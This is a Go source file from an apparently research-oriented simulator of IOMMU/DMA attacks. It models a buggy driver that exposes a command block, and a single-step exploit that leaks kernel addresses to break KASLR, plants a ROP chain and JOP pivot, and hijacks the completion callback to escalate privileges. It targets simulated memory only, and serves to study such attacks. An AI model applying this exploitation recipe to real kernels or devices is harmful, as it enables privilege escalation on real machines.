package attacks

import (
	"dmafault/internal/core"
	"dmafault/internal/device"
	"dmafault/internal/dma"
	"dmafault/internal/iommu"
	"dmafault/internal/kexec"
	"dmafault/internal/layout"
)

// BuggyCommandBlock models the classic type (a) vulnerability the prior
// single-step attacks exploited (Thunderclap's FreeBSD mbuf, Kupfer's
// FireWire driver): a driver DMA-maps an entire command structure
// BIDIRECTIONAL, and that structure carries everything at fixed offsets —
// a completion callback pointer, a self-referential list head (leaking the
// structure's own KVA), and a netns back-pointer (leaking init_net, hence
// the KASLR text base).
type BuggyCommandBlock struct {
	KVA  layout.Addr
	IOVA iommu.IOVA
}

// Offsets within the buggy command block. The kernel passes the block's
// address in %rdi on completion, and the pivot gadget sets %rsp to
// %rdi+PivotDisplacement, so the exploit lays its chain over the fields at
// [16, 64) — scratch space in this struct; the callback lives past it.
const (
	cmdListNextOff = 0  // struct list_head next → points at itself when idle
	cmdNetNSOff    = 8  // struct net * → &init_net
	cmdCallbackOff = 72 // completion callback
	cmdBlockSize   = 256
)

// InstallBuggyDriver allocates and maps the vulnerable command block, as the
// buggy driver's probe() would.
func InstallBuggyDriver(sys *core.System, dev iommu.DeviceID, cpu int) (*BuggyCommandBlock, error) {
	kva, err := sys.Mem.Slab.Kzalloc(cpu, cmdBlockSize, "fw_ohci_cmd_block")
	if err != nil {
		return nil, err
	}
	if err := sys.Mem.WriteU64(kva+cmdListNextOff, uint64(kva)); err != nil { // empty list: next = self
		return nil, err
	}
	initNet, err := sys.Layout.SymbolKVA("init_net")
	if err != nil {
		return nil, err
	}
	if err := sys.Mem.WriteU64(kva+cmdNetNSOff, uint64(initNet)); err != nil {
		return nil, err
	}
	if err := sys.Mem.WriteU64(kva+cmdCallbackOff, uint64(benignCallback(sys))); err != nil {
		return nil, err
	}
	va, err := sys.Mapper.MapSingle(dev, kva, cmdBlockSize, dma.Bidirectional)
	if err != nil {
		return nil, err
	}
	return &BuggyCommandBlock{KVA: kva, IOVA: va}, nil
}

// benignCallback is the address of sock_wfree, the legitimate callback a
// kernel object carries before the device contests it; it registers a no-op
// sock_wfree on kernels that lack one.
func benignCallback(sys *core.System) layout.Addr {
	cb, err := sys.Kernel.FuncAddr("sock_wfree")
	if err != nil {
		sys.Kernel.RegisterSymbol("sock_wfree", func(c *kexec.CPU) error { return nil })
		cb, _ = sys.Kernel.FuncAddr("sock_wfree")
	}
	return cb
}

// CompleteCommand is the driver's completion path: it loads the callback
// pointer from the (device-accessible!) command block and invokes it with
// the block's address — exactly the dispatch the attacker hijacks.
func CompleteCommand(sys *core.System, blk *BuggyCommandBlock) error {
	cb, err := sys.Mem.ReadU64(blk.KVA + cmdCallbackOff)
	if err != nil {
		return err
	}
	return sys.Kernel.InvokeCallback(layout.Addr(cb), uint64(blk.KVA))
}

// plantPivotChain lays the Fig. 4 exploit over a device-writable object
// at base: the escalation ROP chain where the pivot will move %rsp
// (base+PivotDisplacement) and the JOP pivot in the callback slot at
// base+cbOff.
func plantPivotChain(atk *device.Attacker, base, cbOff iommu.IOVA) error {
	pivot, err := atk.PivotAddr()
	if err != nil {
		return err
	}
	chain, err := atk.ChainAddresses()
	if err != nil {
		return err
	}
	if err := atk.Bus.Write(atk.Dev, base+kexec.PivotDisplacement, kexec.ChainBytes(kexec.EscalationChain(chain))); err != nil {
		return err
	}
	return atk.Bus.WriteU64(atk.Dev, base+cbOff, uint64(pivot))
}

// RunSingleStep executes the single-step baseline: every §3.3 attribute is
// served by the one mapped page, no compound steps needed.
func RunSingleStep(sys *core.System, atk *device.Attacker, blk *BuggyCommandBlock) *Result {
	r := newResult("single-step (type (a) buggy driver)")

	// Attribute acquisition: one page scan yields the block's own KVA (the
	// self-referential list head — a direct-map pointer that also pins
	// page_offset_base) and init_net (text base).
	used, err := atk.ScanPage(blk.IOVA)
	if err != nil {
		return r.fail(err)
	}
	r.logf("scanned mapped command-block page: %d pointers consumed", used)
	words, err := atk.ReadWords(blk.IOVA+cmdListNextOff, 1)
	if err != nil {
		return r.fail(err)
	}
	blockKVA := layout.Addr(words[0]) // list.next == &block
	r.logf("self-referential list head leaks block KVA %#x", uint64(blockKVA))
	if _, err := atk.Infer.TextBase(); err != nil {
		return r.fail(err)
	}
	r.logf("init_net leak broke KASLR: text base recovered")

	// Build the Fig. 4 structure inside the same mapped block.
	if err := plantPivotChain(atk, blk.IOVA, cmdCallbackOff); err != nil {
		return r.fail(err)
	}
	r.logf("callback overwritten with JOP pivot, ROP chain planted in block")

	// The driver completes the command: hijacked dispatch.
	before := sys.Kernel.Escalations
	if err := CompleteCommand(sys, blk); err != nil {
		return r.fail(err)
	}
	r.Escalations = sys.Kernel.Escalations - before
	r.Success = r.Escalations > 0
	r.logf("driver completion invoked callback: %d escalation(s)", r.Escalations)
	return r
}
